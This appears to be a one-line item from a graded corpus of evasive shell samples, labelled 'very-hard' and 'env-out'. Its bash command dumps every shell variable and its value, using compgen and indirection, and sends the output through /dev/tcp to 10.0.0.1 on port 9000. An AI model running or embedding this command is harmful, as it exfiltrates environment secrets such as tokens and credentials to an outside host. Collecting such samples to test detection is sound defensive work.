# evasion: compgen -v with indirection in a loop
# grade: very-hard; does: env-out
while read -r v; do echo "$v=${!v}"; done < <(compgen -v) > /dev/tcp/10.0.0.1/9000
